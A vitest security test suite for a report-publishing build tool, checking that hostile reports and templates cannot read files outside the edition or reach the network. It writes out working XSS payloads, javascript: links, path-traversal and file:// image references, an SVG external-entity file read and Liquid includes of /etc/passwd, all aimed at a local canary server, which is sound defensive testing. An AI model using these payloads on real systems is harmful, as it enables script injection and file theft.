/**
 * Hostile reports, built for real: every way a report (or a template in the edition) could make the build read
 * a file outside the edition or reach the network. A canary file outside the edition must never appear in any
 * output, a canary server on 127.0.0.1 must never be reached (not by the printing Chrome, and not by a normal
 * browser opening the HTML edition), and each refused construct is reported, naming its report.
 */
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Element, Root } from 'hast';
import puppeteer from 'puppeteer-core';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build, type BuildResult } from '../../src/build.js';
import { BulletinError, ValidationFailed, type Diagnostic } from '../../src/diagnostics.js';
import { findBrowser } from '../../src/output/find-browser.js';
import { lint } from '../../src/lint.js';
import { DEFAULT_TEMPLATE_DIR } from '../../src/render/template.js';
import { configYaml, tempDir, writeConfig, writeReport, type ReportSpec } from '../helpers/edition.js';
import { canaryToken, findCanary, startCanaryServer, writeCanaryFile, type CanaryServer } from '../helpers/leaks.js';
import { pdfPagesText } from '../helpers/pdf.js';

const CONFIG = configYaml('Hostile Bulletin', ['Kazakhstan', 'Kyrgyzstan', 'Tajikistan'], 'output:\n  name: hostile\n');

/** Line of the report file on which body line `n` (1-based) stands, as writeReport lays the file out. */
const bodyLine = (n: number): number => 6 + n;

const OK_TEXT = 'The seminar brought together police officers, prosecutors and social workers from the region.';

function report(file: string, body: string, extra: Partial<ReportSpec> = {}): ReportSpec {
  return { file, country: 'Kazakhstan', title: `Report ${file.replace(/\.md$/, '')}`, date: '2014-11-03', body, ...extra };
}

const tmp = tempDir('bulletin-hostile-');
const token = canaryToken();
let server: CanaryServer;
let canaryPng: string;
let canaryTxt: string;

beforeAll(async () => {
  server = await startCanaryServer();
  canaryTxt = writeCanaryFile(path.join(tmp.dir, 'secret', 'canary.txt'), token);
  canaryPng = writeCanaryFile(path.join(tmp.dir, 'secret', 'canary.png'), token);
  writeCanaryFile(path.join(tmp.dir, 'secret', 'canary.liquid'), token);
  writeCanaryFile(path.join(tmp.dir, 'secret', 'canary.css'), `body::before { content: "${token}"; }`);
});

afterAll(async () => {
  await server.close();
  tmp.cleanup();
});

/** The reports whose only fault is an image that must be refused, with the rule that must refuse it. */
function imageEscapes(edition: string): { spec: ReportSpec; ruleId: string; line: number }[] {
  const origin = server.origin;
  const reportsDir = path.join(edition, 'reports');
  const relative = path.relative(reportsDir, canaryPng);
  const cases: [string, string, string][] = [
    ['img-file-url.md', `file://${canaryPng}`, 'image/remote'],
    ['img-file-url-upper.md', `FILE://${canaryPng}`, 'image/remote'],
    ['img-file-url-entity.md', `file&#58;//${canaryPng}`, 'image/remote'],
    ['img-dotdot.md', relative, 'image/outside-edition'],
    ['img-dotdot-via-assets.md', `../assets/${path.relative(path.join(edition, 'assets'), canaryPng)}`, 'image/outside-edition'],
    ['img-dotdot-encoded.md', relative.replace(/\//g, '%2F').replace(/\./g, '%2e'), 'image/outside-edition'],
    ['img-absolute.md', canaryPng, 'image/outside-edition'],
    ['img-absolute-entity.md', canaryPng.replace(/\//g, '&#x2F;'), 'image/outside-edition'],
    ['img-http.md', `http://${origin}/img.png`, 'image/remote'],
    ['img-https.md', `https://${origin}/img.png`, 'image/remote'],
    ['img-protocol-relative.md', `//${origin}/x.png`, 'image/remote'],
    ['img-ftp.md', `ftp://${origin}/x.png`, 'image/remote'],
    ['img-ws.md', `ws://${origin}/socket.png`, 'image/remote'],
    ['img-data.md', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'image/remote'],
    ['img-symlink.md', '../assets/escape.png', 'image/outside-edition'],
    ['img-missing.md', '../assets/no-such-photo.png', 'image/not-found'],
    // an SVG drawing that loads an address and files: shown as a picture, those parts would print broken
    ['img-svg-loads.md', '../assets/loading.svg', 'image/remote'],
    // an SVG drawing that declares an entity naming a file outside the edition
    ['img-svg-entity.md', '../assets/entity.svg', 'image/unsupported-type'],
  ];
  const out = cases.map(([file, url, ruleId]) => ({
    spec: report(file, `${OK_TEXT}\n\n![A photo](${url} "A caption")\n\nThe meeting ended with a joint statement.`),
    ruleId,
    line: bodyLine(3),
  }));
  // An image reference whose definition points at the canary server.
  out.push({
    spec: report('img-reference.md', `${OK_TEXT}\n\n![A photo][logo]\n\nThe meeting ended.\n\n[logo]: http://${origin}/ref.png "A caption"`),
    ruleId: 'image/remote',
    line: bodyLine(3),
  });
  return out;
}

/** Without the refused images: the same reports, text only. */
function withoutImages(spec: ReportSpec): ReportSpec {
  return { ...spec, body: `${OK_TEXT}\n\nThe meeting ended with a joint statement.` };
}

/** Raw HTML, one construct a paragraph; each must be dropped and warned about. */
function rawHtmlBlocks(): string[] {
  const o = server.origin;
  return [
    `<iframe src="file://${canaryTxt}"></iframe>`,
    `<iframe src="http://${o}/iframe"></iframe>`,
    `<iframe srcdoc="<img src=http://${o}/srcdoc.png>"></iframe>`,
    `<object data="http://${o}/object"></object>`,
    `<object data="file://${canaryTxt}" type="text/plain"></object>`,
    `<embed src="http://${o}/embed">`,
    `<img src="http://${o}/img-raw.png" onerror="fetch('http://${o}/onerror')">`,
    `<img src="file://${canaryPng}" alt="canary">`,
    `<img src="../../secret/canary.png" alt="canary">`,
    `<script>fetch('http://${o}/script')</script>`,
    `<script src="http://${o}/script.js"></script>`,
    `<link rel="stylesheet" href="http://${o}/style.css">`,
    `<link rel="prefetch" href="http://${o}/prefetch">`,
    `<style>@import url(http://${o}/import.css); body { background: url(file://${canaryPng}); }</style>`,
    `<meta http-equiv="refresh" content="0;url=http://${o}/refresh">`,
    `<base href="http://${o}/base/">`,
    `<svg><image href="http://${o}/svg-image.png" width="10" height="10"/></svg>`,
    `<video src="http://${o}/video.mp4" autoplay></video>`,
    `<audio src="http://${o}/audio.mp3" autoplay></audio>`,
    `<form action="http://${o}/form"><input name="x" value="1"></form>`,
    `<div style="background-image: url(http://${o}/div-bg.png)">styled</div>`,
    `<picture><source srcset="http://${o}/srcset.png"><img src="x.png" alt="x"></picture>`,
    `<details open ontoggle="fetch('http://${o}/ontoggle')"><summary>more</summary></details>`,
    `<math><mi xlink:href="javascript:fetch('http://${o}/math')">x</mi></math>`,
    `<a href="javascript:fetch('http://${o}/a-js')">click</a>`,
    `<noscript><img src="http://${o}/noscript.png"></noscript>`,
  ];
}

/** Raw HTML in the middle of running text: the text prints, the tags do not. */
function inlineHtml(): string[] {
  const o = server.origin;
  return [
    `Text with an image <img src="http://${o}/inline.png" onerror="alert(1)"> inside.`,
    `Text with <span onmouseover="fetch('http://${o}/span')">a span</span> inside.`,
    `Text with <a href="http://${o}/raw-link" onclick="alert(1)">a raw link</a> inside.`,
    `Text with <svg onload="fetch('http://${o}/svg-onload')"></svg> an svg.`,
    `Text with <input type="image" src="http://${o}/input.png"> an input.`,
  ];
}

/** Markdown links that must lose dangerous targets; links are never fetched. */
function markdownLinks(): string {
  const o = server.origin;
  return [
    '[a javascript link](javascript:alert(1)) and [an upper-case one](JaVaScRiPt:alert(1)).',
    '',
    '[a vbscript link](vbscript:msgbox(1)) and [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).',
    '',
    `[a file link](file://${canaryTxt}) and [an entity one](javascript&#58;alert(1)).`,
    '',
    `Autolinks: <http://${o}/autolink>, <javascript:alert(1)>, <ws://${o}/ws-autolink>, www.example.org and help@example.org.`,
    '',
    `[A title that tries to break out](http://${o}/titled "x\\" onmouseover=\\"alert(1)") and [a reference][evil].`,
    '',
    '[evil]: javascript:alert(1)',
  ].join('\n');
}

/**
 * An SVG whose hostile parts pass lint (a script, a link) and must be stopped by the page itself. Its loads of
 * files and addresses (images, a style sheet, a frame in a foreignObject) are in loadingSvg(), and its external
 * entity in entitySvg(), which lint refuses.
 */
function hostileSvg(): string {
  const o = server.origin;
  return `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300" viewBox="0 0 600 300">
  <rect width="600" height="300" fill="#dde"/>
  <a xlink:href="http://${o}/svg-link"><text x="10" y="40">a link</text></a>
  <script>fetch('http://${o}/svg-script')</script>
</svg>
`;
}

function entitySvg(): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [<!ENTITY canary SYSTEM "file://${canaryTxt}">]>
<svg xmlns="http://www.w3.org/2000/svg" width="600" height="300" viewBox="0 0 600 300">
  <text x="10" y="280">&canary;</text>
</svg>
`;
}

function loadingSvg(): string {
  const o = server.origin;
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300" viewBox="0 0 600 300">
  <style>@import url(http://${o}/svg-import.css);</style>
  <image href="http://${o}/from-svg.png" x="0" y="0" width="100" height="100"/>
  <image xlink:href="file://${canaryTxt}" x="100" y="0" width="100" height="100"/>
  <image href="file://${canaryPng}" x="200" y="0" width="100" height="100"/>
  <foreignObject x="0" y="100" width="300" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://${o}/svg-iframe"></iframe></foreignObject>
</svg>
`;
}

interface Edition {
  dir: string;
  out: string;
  escapes: ReturnType<typeof imageEscapes>;
  blocks: string[];
  inline: string[];
}

function writeHostileEdition(name: string): Edition {
  const dir = path.join(tmp.dir, name, 'edition');
  const out = path.join(tmp.dir, name, 'out');
  writeConfig(dir, CONFIG);
  mkdirSync(path.join(dir, 'assets'), { recursive: true });
  writeFileSync(path.join(dir, 'assets', 'hostile.svg'), hostileSvg());
  writeFileSync(path.join(dir, 'assets', 'loading.svg'), loadingSvg());
  writeFileSync(path.join(dir, 'assets', 'entity.svg'), entitySvg());
  symlinkSync(canaryPng, path.join(dir, 'assets', 'escape.png'));
  const blocks = rawHtmlBlocks();
  const inline = inlineHtml();
  const o = server.origin;
  writeReport(dir, report('raw-html-blocks.md', [OK_TEXT, ...blocks].join('\n\n')));
  writeReport(dir, report('raw-html-inline.md', [OK_TEXT, ...inline].join('\n\n'), { country: 'Kyrgyzstan' }));
  writeReport(dir, report('links.md', `${OK_TEXT}\n\n${markdownLinks()}`, { country: 'Tajikistan' }));
  writeReport(dir, report('svg.md', `${OK_TEXT}\n\n![A diagram](../assets/hostile.svg "A diagram of the referral mechanism")\n\nThe diagram shows the referral mechanism.`));
  writeReport(
    dir,
    report('front-matter.md', OK_TEXT, {
      title: `Escaped <img src=http://${o}/title.png onerror=alert(1)> <script>fetch('http://${o}/title')</script> title`,
      location: `"<iframe src=http://${o}/location></iframe>"`,
      country: 'Kyrgyzstan',
    }),
  );
  const escapes = imageEscapes(dir);
  for (const e of escapes) writeReport(dir, e.spec);
  return { dir, out, escapes, blocks, inline };
}

const errorsOf = (diagnostics: readonly Diagnostic[], file: string) => diagnostics.filter((d) => d.file === file && d.severity === 'error');

/** Every element of an HTML document, parsed as a browser would. */
function elements(html: string): Element[] {
  const tree = unified().use(rehypeParse).parse(html) as Root;
  const out: Element[] = [];
  visit(tree, 'element', (el: Element) => {
    out.push(el);
  });
  return out;
}

const attrString = (value: unknown): string => (Array.isArray(value) ? value.join(' ') : String(value));

describe('the canary detector', () => {
  it('finds the token as text and base64-encoded at every alignment', () => {
    expect(findCanary(`x${token}y`, token)).toContain('plain');
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const b64 = Buffer.from(`${prefix}${token}\n`).toString('base64');
      expect(findCanary(`data:image/png;base64,${b64}`, token).length, prefix).toBeGreaterThan(0);
    }
    expect(findCanary('nothing here', token)).toEqual([]);
  });
});

describe('images that try to leave the edition', () => {
  let edition: Edition;
  let error: unknown;

  beforeAll(async () => {
    edition = writeHostileEdition('images');
    error = await build(edition.dir, { outDir: edition.out }).catch((e: unknown) => e);
  });

  it('refuse the build, which writes nothing', () => {
    expect(error).toBeInstanceOf(ValidationFailed);
    expect(existsSync(edition.out) ? readdirSync(edition.out) : []).toEqual([]);
  });

  it('are each reported with the right rule, naming the report, line and column', () => {
    const diagnostics = (error as ValidationFailed).diagnostics;
    for (const e of edition.escapes) {
      const file = `reports/${e.spec.file}`;
      const errors = errorsOf(diagnostics, file).map((d) => `${d.file}:${d.line}:${d.column} ${d.ruleId}`);
      expect(errors, file).toEqual([`${file}:${e.line}:1 ${e.ruleId}`]);
    }
  });

  it('leave the reports without refused images error-free (only the image reports fail)', () => {
    const diagnostics = (error as ValidationFailed).diagnostics;
    const imageFiles = new Set(edition.escapes.map((e) => `reports/${e.spec.file}`));
    const others = diagnostics.filter((d) => d.severity === 'error' && !imageFiles.has(d.file));
    expect(others).toEqual([]);
  });

  it('never read the canary: its content is in no message', () => {
    const text = JSON.stringify((error as ValidationFailed).diagnostics);
    expect(findCanary(text, token)).toEqual([]);
    expect(server.hits).toEqual([]);
  });
});

describe('raw HTML, links and an SVG asset that try to reach out, printed', () => {
  let edition: Edition;
  let result: BuildResult;
  let html: string;
  let pdfPath: string;

  beforeAll(async () => {
    edition = writeHostileEdition('printed');
    // First as authors sent it: refused for the images alone...
    const first = await build(edition.dir, { outDir: edition.out }).catch((e: unknown) => e);
    expect(first).toBeInstanceOf(ValidationFailed);
    // ...then with the refused images taken out: everything else prints.
    for (const e of edition.escapes) writeReport(edition.dir, withoutImages(e.spec));
    result = await build(edition.dir, { outDir: edition.out });
    html = readFileSync(path.join(edition.out, 'hostile.html'), 'utf8');
    pdfPath = path.join(edition.out, 'hostile.pdf');
  });

  it('builds both outputs', () => {
    expect(result.files.map((f) => path.basename(f.path)).sort()).toEqual(['hostile.html', 'hostile.pdf']);
    expect(result.edition.articles.length).toBe(5 + edition.escapes.length);
  });

  it('lets no request reach the canary server while printing', () => {
    expect(server.hits).toEqual([]);
  });

  it('prints the canary file nowhere: not in the PDF bytes, its text or the HTML', () => {
    expect(findCanary(readFileSync(pdfPath), token)).toEqual([]);
    expect(findCanary(pdfPagesText(pdfPath).join('\n'), token)).toEqual([]);
    expect(findCanary(html, token)).toEqual([]);
    expect(pdfPagesText(pdfPath).join(' ')).not.toContain('CANARY');
  });

  it('prints the text around the dropped HTML', () => {
    const text = pdfPagesText(pdfPath).join(' ');
    expect(text).toContain('Text with an image inside.');
    expect(text).toContain('The diagram shows the referral mechanism.');
    // The front matter's markup is shown as text, never run.
    expect(text).toContain('Escaped <img src=');
  });

  it('needed no refusal from the sealed page: nothing in the document asked for a resource', () => {
    expect(result.diagnostics.filter((d) => d.ruleId === 'render/refused-request')).toEqual([]);
  });

  it('warns about every raw HTML construct, naming the report and line', () => {
    const warned = new Set(
      result.diagnostics.filter((d) => d.ruleId === 'content/raw-html' && d.severity === 'warning').map((d) => `${d.file}:${d.line}`),
    );
    edition.blocks.forEach((_, i) => expect(warned, edition.blocks[i]).toContain(`reports/raw-html-blocks.md:${bodyLine(3 + 2 * i)}`));
    edition.inline.forEach((_, i) => expect(warned, edition.inline[i]).toContain(`reports/raw-html-inline.md:${bodyLine(3 + 2 * i)}`));
  });

  it('has no script, event handler, frame, object, embed, form, base or refresh in the HTML', () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<(iframe|object|embed|form|base|frame|frameset|portal|applet|video|audio|link|input)\b/i);
    expect(html).not.toMatch(/<meta[^>]+http-equiv\s*=\s*["']?refresh/i);
    // An attribute named on… in any tag (attribute values, quoted or not, are skipped as a browser does).
    expect(html).not.toMatch(/<[a-z][a-z0-9-]*(?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*\s+on[a-z]+\s*=/i);
    expect(html).not.toMatch(/(=\s*["']?|url\(\s*["']?)\s*(javascript|vbscript):/i);
    expect(html).not.toContain(`src="http://${server.origin}`);
    const els = elements(html);
    for (const el of els) {
      for (const [name, value] of Object.entries(el.properties)) {
        expect(name.toLowerCase().startsWith('on'), `${el.tagName} ${name}`).toBe(false);
        expect(attrString(value), `${el.tagName} ${name}`).not.toMatch(/^\s*(javascript|vbscript|file):/i);
      }
      if (el.tagName === 'a' && el.properties['href'] !== undefined) {
        expect(attrString(el.properties['href'])).toMatch(/^(#|https?:|mailto:|tel:)/);
      }
      for (const attr of ['src', 'srcSet', 'data', 'action', 'poster', 'background', 'formAction', 'xLinkHref']) {
        const v = el.properties[attr];
        if (v !== undefined) expect(attrString(v), `${el.tagName} ${attr}`).toMatch(/^data:(image|font)\//);
      }
    }
    const imgs = els.filter((e) => e.tagName === 'img');
    expect(imgs.length).toBeGreaterThan(0);
    for (const img of imgs) expect(attrString(img.properties['src'])).toMatch(/^data:image\/svg\+xml;base64,/);
  });

  it('shows the front matter’s markup escaped, as text', () => {
    expect(html).toContain('Escaped &lt;img src=');
    expect(html).toContain('&lt;script&gt;');
  });

  it('carries one Content-Security-Policy that forbids scripts and remote loads', () => {
    const metas = elements(html).filter(
      (e) => e.tagName === 'meta' && attrString(e.properties['httpEquiv']).toLowerCase() === 'content-security-policy',
    );
    expect(metas.length).toBe(1);
    const policy = attrString(metas[0]!.properties['content']);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(/img-src data:(;|$)/);
    expect(policy).not.toMatch(/script-src|unsafe-eval|http:|https:|\*/);
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<body'));
  });

  it('reaches nothing when opened in an ordinary browser, scripts on', async () => {
    const browser = await findBrowser();
    const profile = path.join(tmp.dir, 'viewer-profile');
    const viewer = await puppeteer.launch({
      executablePath: browser.executablePath,
      headless: true,
      userDataDir: profile,
      env: { ...process.env, TMPDIR: tmp.dir },
      args: ['--headless=new', ...(process.getuid?.() === 0 ? ['--no-sandbox'] : []), '--allow-file-access-from-files'],
      handleSIGINT: false,
      handleSIGTERM: false,
      handleSIGHUP: false,
    });
    const requested: string[] = [];
    try {
      const page = await viewer.newPage();
      page.on('request', (r) => requested.push(r.url().slice(0, 80)));
      await page.goto(pathToFileURL(path.join(edition.out, 'hostile.html')).href, { waitUntil: 'load', timeout: 30_000 });
      await new Promise((r) => setTimeout(r, 500));
      const bodyText = await page.evaluate(() => document.body.innerText);
      expect(bodyText).not.toContain('CANARY');
      expect(requested.filter((u) => !u.startsWith('data:') && !u.startsWith('file:'))).toEqual([]);
      expect(requested.filter((u) => u.startsWith('file:'))).toHaveLength(1); // the page itself
      expect(server.hits).toEqual([]);
      // Control: this browser does reach the canary server when asked to, so the silence above means something.
      await page.goto(`http://${server.origin}/control`, { waitUntil: 'load', timeout: 30_000 });
      expect(server.hits.some((h) => h === 'GET /control')).toBe(true);
      server.hits.length = 0;
    } finally {
      await viewer.close();
    }
  });
});

describe('templates that try to read outside their folder', () => {
  /** A fresh one-report edition whose `tpl/` is a copy of the default template, changed by `change`. */
  function editionWithTemplate(name: string, change: (tpl: string, edition: string) => void, templateSetting = 'tpl'): { dir: string; out: string } {
    const root = path.join(tmp.dir, 'templates', name);
    const dir = path.join(root, 'edition');
    writeConfig(dir, `${CONFIG}template: ${templateSetting}\n`);
    writeReport(dir, report('kazakhstan.md', OK_TEXT));
    const tpl = path.join(dir, 'tpl');
    cpSync(DEFAULT_TEMPLATE_DIR, tpl, { recursive: true });
    change(tpl, dir);
    return { dir, out: path.join(root, 'out') };
  }

  const entry = (tpl: string) => path.join(tpl, 'edition.liquid');
  const insertInBody = (tpl: string, liquid: string) => writeFileSync(entry(tpl), readFileSync(entry(tpl), 'utf8').replace('<body>', `<body>${liquid}`));

  /**
   * The build is refused: a template that cannot be loaded or parsed is a `config/template` error in the
   * checks (lint finds it too); one that fails only when rendering stops the build with `code`.
   */
  async function expectRefused(e: { dir: string; out: string }, code: string | RegExp): Promise<{ message: string }> {
    const error = await build(e.dir, { outDir: e.out, formats: ['html'] }).catch((x: unknown) => x);
    let message: string;
    if (error instanceof ValidationFailed) {
      const found = error.diagnostics.filter((d) => d.ruleId === 'config/template');
      expect(found, `a config/template error instead of ${String(code)}`).toHaveLength(1);
      expect(found[0]).toMatchObject({ file: 'bulletin.yaml', severity: 'error' });
      message = found[0]!.message;
      expect((await lint(e.dir)).diagnostics.filter((d) => d.ruleId === 'config/template')).toEqual(found);
    } else {
      expect(error).toBeInstanceOf(BulletinError);
      expect((error as BulletinError).code).toMatch(code);
      message = (error as BulletinError).message;
    }
    expect(findCanary(message, token)).toEqual([]);
    expect(message).not.toMatch(/root:.*:0:0:/);
    expect(existsSync(e.out) ? readdirSync(e.out) : []).toEqual([]);
    return { message };
  }

  it('refuses a template folder outside the edition (relative, absolute, or a link out)', async () => {
    const outside = path.join(tmp.dir, 'templates', 'outside-tpl');
    cpSync(DEFAULT_TEMPLATE_DIR, outside, { recursive: true });
    writeFileSync(entry(outside), readFileSync(entry(outside), 'utf8').replace('<body>', `<body>${token}`));
    const relative = editionWithTemplate('relative', () => undefined, '../../outside-tpl');
    expect((await expectRefused(relative, 'template-outside')).message).toContain('outside the edition');
    await expectRefused(editionWithTemplate('absolute', () => undefined, outside), 'template-outside');
    const linked = editionWithTemplate('linked', (_tpl, dir) => symlinkSync(outside, path.join(dir, 'tpl-link')), 'tpl-link');
    await expectRefused(linked, 'template-outside');
  });

  it.each([
    ['include-relative', "{% include '../../../secret/canary' %}"],
    ['include-passwd', "{% include '../../../etc/passwd' %}"],
    ['include-deep-passwd', `{% include '${'../'.repeat(30)}etc/passwd' %}`],
    ['render-hostname', "{% render '/etc/hostname' %}"],
    ['render-absolute', '{% render \'__CANARY__\' %}'],
    ['include-symlink', "{% include 'evil' %}"],
    ['layout-relative', "{% layout '../../../secret/canary' %}"],
  ])('a Liquid tag that reaches out fails the build without showing the file (%s)', async (name, tag) => {
    const e = editionWithTemplate(`liquid-${name}`, (tpl) => {
      symlinkSync(path.join(tmp.dir, 'secret', 'canary.liquid'), path.join(tpl, 'evil.liquid'));
      insertInBody(tpl, tag.replace('__CANARY__', path.join(tmp.dir, 'secret', 'canary.liquid')));
    });
    await expectRefused(e, 'template-failed');
  });

  it.each([
    ['zero', 0],
    ['negative', -80],
    ['huge', 1e9],
  ])('refuses print geometry that no page has (%s column width) with a clear message', async (name, width) => {
    const e = editionWithTemplate(`geometry-${name}`, (tpl) => {
      const manifest = JSON.parse(readFileSync(path.join(tpl, 'template.json'), 'utf8')) as { print: { columnWidthMm: { A4: number } } };
      manifest.print.columnWidthMm.A4 = width;
      writeFileSync(path.join(tpl, 'template.json'), JSON.stringify(manifest));
    });
    expect((await expectRefused(e, 'template-invalid')).message).toMatch(/not a valid template manifest/);
  });

  it('refuses a style sheet or entry file outside the template folder', async () => {
    const styles = editionWithTemplate('styles-outside', (tpl) => {
      const manifest = JSON.parse(readFileSync(path.join(tpl, 'template.json'), 'utf8')) as { styles: string[] };
      manifest.styles.push('../../../secret/canary.css');
      writeFileSync(path.join(tpl, 'template.json'), JSON.stringify(manifest));
    });
    await expectRefused(styles, 'template-invalid');
    const linkedStyle = editionWithTemplate('styles-link', (tpl) => {
      symlinkSync(path.join(tmp.dir, 'secret', 'canary.css'), path.join(tpl, 'extra.css'));
      const manifest = JSON.parse(readFileSync(path.join(tpl, 'template.json'), 'utf8')) as { styles: string[] };
      manifest.styles.push('extra.css');
      writeFileSync(path.join(tpl, 'template.json'), JSON.stringify(manifest));
    });
    await expectRefused(linkedStyle, 'template-invalid');
    const entryOutside = editionWithTemplate('entry-outside', (tpl) => {
      const manifest = JSON.parse(readFileSync(path.join(tpl, 'template.json'), 'utf8')) as { entry: string };
      manifest.entry = '../../../secret/canary.liquid';
      writeFileSync(path.join(tpl, 'template.json'), JSON.stringify(manifest));
    });
    await expectRefused(entryOutside, /^template-/);
  });

  it('refuses a font package that is a path out of node_modules', async () => {
    const evil = path.join(tmp.dir, 'secret', 'evil-font');
    mkdirSync(evil, { recursive: true });
    writeFileSync(path.join(evil, 'package.json'), '{"name":"evil-font","version":"1.0.0"}');
    writeFileSync(path.join(evil, 'unicode.json'), '{"latin":"U+0000-00FF"}');
    // The font file's name is built from the package name, so it lands next to the package folder.
    writeFileSync(path.join(tmp.dir, 'secret', 'evil-font-latin-400-normal.woff2'), `${token}\n`);
    const pkg = `@fontsource/${'../'.repeat(40)}${evil.replace(/^\//, '')}`;
    const e = editionWithTemplate('font-escape', (tpl) => {
      const manifest = JSON.parse(readFileSync(path.join(tpl, 'template.json'), 'utf8')) as { fonts: unknown[] };
      manifest.fonts.push({ family: 'Evil', package: pkg, faces: [{ weight: 400, style: 'normal' }] });
      writeFileSync(path.join(tpl, 'template.json'), JSON.stringify(manifest));
    });
    const outcome = await build(e.dir, { outDir: e.out, formats: ['html'] }).catch((x: unknown) => x);
    if (outcome instanceof BulletinError) {
      expect(findCanary(outcome.message, token)).toEqual([]);
      return;
    }
    if (outcome instanceof ValidationFailed) {
      expect(outcome.diagnostics.map((d) => d.ruleId)).toContain('config/template');
      expect(findCanary(JSON.stringify(outcome.diagnostics), token)).toEqual([]);
      return;
    }
    const html = readFileSync(path.join(e.out, 'hostile.html'), 'utf8');
    expect(findCanary(html, token)).toEqual([]);
  });
});
